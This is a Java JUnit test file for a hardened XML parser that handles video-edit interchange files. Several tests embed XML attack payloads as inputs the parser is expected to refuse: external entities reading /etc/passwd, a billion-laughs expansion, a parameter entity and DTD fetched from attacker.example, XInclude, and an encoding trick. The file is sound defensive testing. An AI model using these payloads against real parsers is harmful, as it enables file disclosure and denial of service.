package gateway.relink.read.xml;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import gateway.model.error.GatewayException;
import gateway.model.error.Reason;
import gateway.testing.Corpora;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import org.w3c.dom.Element;

class SafeXmlTest {

    private static Document parse(String xml) {
        return SafeXml.parse(xml.getBytes(StandardCharsets.UTF_8), "test.xml");
    }

    private static GatewayException refused(String xml) {
        GatewayException e = assertThrows(GatewayException.class, () -> parse(xml));
        assertEquals(Reason.PARSE_ERROR, e.reason());
        assertTrue(e.getMessage().startsWith("test.xml "), e.getMessage());
        return e;
    }

    @Test
    void parsesAPremiereStyleDocumentWithABareDoctype() {
        Document doc = parse("""
                <?xml version="1.0" encoding="UTF-8"?>
                <!DOCTYPE xmeml>
                <xmeml version="4"><sequence id="s1"><name>A &amp; B</name></sequence></xmeml>
                """);
        Element root = doc.getDocumentElement();
        assertEquals("xmeml", root.getTagName());
        assertEquals("A & B", root.getElementsByTagName("name").item(0).getTextContent());
    }

    @Test
    void keepsNamespaces() {
        Document doc = parse("<a xmlns=\"urn:x\"><b/></a>");
        assertEquals("urn:x", doc.getDocumentElement().getNamespaceURI());
    }

    @Test
    void refusesAnExternalEntityBeforeParsing() {
        GatewayException e = refused("""
                <?xml version="1.0"?>
                <!DOCTYPE xmeml [
                  <!ENTITY xxe SYSTEM "file:///etc/passwd">
                ]>
                <xmeml><name>&xxe;</name></xmeml>
                """);
        assertTrue(e.getMessage().contains("declares an entity at line 3"), e.getMessage());
        assertTrue(e.getMessage().contains("XXE / entity-expansion protection"), e.getMessage());
        assertTrue(e.getMessage().contains("edit files never need entities"), e.getMessage());
    }

    @Test
    void refusesBillionLaughs() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n");
        xml.append("<!ENTITY lol0 \"lol\">\n");
        for (int i = 1; i < 10; i++) {
            xml.append("<!ENTITY lol").append(i).append(" \"");
            xml.append(("&lol" + (i - 1) + ";").repeat(10)).append("\">\n");
        }
        xml.append("]>\n<lolz>&lol9;</lolz>\n");
        GatewayException e = refused(xml.toString());
        assertTrue(e.getMessage().contains("declares an entity at line 3"), e.getMessage());
    }

    @Test
    void refusesAParameterEntity() {
        GatewayException e = refused("""
                <!DOCTYPE x [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
                <x/>
                """);
        assertTrue(e.getMessage().contains("declares an entity at line 1"), e.getMessage());
    }

    @Test
    void refusesXInclude() {
        GatewayException e = refused("""
                <root xmlns:xi="http://www.w3.org/2001/XInclude">
                  <xi:include href="file:///etc/passwd" parse="text"/>
                </root>
                """);
        assertTrue(e.getMessage().contains("uses XInclude at line 1"), e.getMessage());
    }

    @Test
    void refusesAnExternalDtdReference() {
        GatewayException e = refused("""
                <?xml version="1.0"?>

                <!DOCTYPE xmeml SYSTEM "http://attacker.example/xmeml.dtd">
                <xmeml/>
                """);
        assertTrue(e.getMessage().contains("references an external DTD at line 3"), e.getMessage());
        GatewayException pub = refused("<!DOCTYPE x PUBLIC \"-//A//B\" \"file:///etc/passwd\"><x/>");
        assertTrue(pub.getMessage().contains("external DTD at line 1"), pub.getMessage());
    }

    @Test
    void anEntityMentionedInACommentOrCdataIsOnlyText() {
        Document doc = parse("<x><!-- <!ENTITY no> --><![CDATA[<!ENTITY no>]]></x>");
        assertEquals("<!ENTITY no>", doc.getDocumentElement().getTextContent());
    }

    @Test
    void refusesAnEncodingThatHidesMarkupFromTheScan() {
        GatewayException e = refused("<?xml version=\"1.0\" encoding=\"IBM037\"?><x/>");
        assertTrue(e.getMessage().contains("not ASCII-based"), e.getMessage());
        refused("<?xml version=\"1.0\" encoding=\"no-such-charset\"?><x/>");
    }

    @Test
    void refusesBytesThatDoNotStartWithMarkup() {
        byte[] utf32 = "<x/>".getBytes(java.nio.charset.Charset.forName("UTF-32BE"));
        GatewayException e = assertThrows(GatewayException.class, () -> SafeXml.parse(utf32, "test.xml"));
        assertEquals(Reason.PARSE_ERROR, e.reason());
    }

    @Test
    void parsesUtf16() {
        byte[] xml = "\ufeff<?xml version=\"1.0\" encoding=\"UTF-16\"?><x>é</x>".getBytes(StandardCharsets.UTF_16BE);
        assertEquals("é", SafeXml.parse(xml, "test.xml").getDocumentElement().getTextContent());
    }

    @Test
    void malformedXmlNamesLineAndColumn() {
        GatewayException e = refused("<a>\n  <b>\n</a>\n");
        assertTrue(e.getMessage().contains("line 3, column"), e.getMessage());
    }

    @Test
    void everyEditCorpusFileParses() throws IOException {
        List<Path> files;
        try (Stream<Path> s = Stream.concat(
                Files.list(Corpora.root().resolve("fcp7xml")),
                Files.list(Corpora.root().resolve("fcpxml")))) {
            files = s.sorted().toList();
        }
        assertEquals(12, files.size());
        for (Path file : files) {
            Document doc = SafeXml.parse(Files.readAllBytes(file), file.toString());
            assertTrue(doc.getDocumentElement().getTagName().matches("xmeml|fcpxml|filter"), file.toString());
        }
    }
}
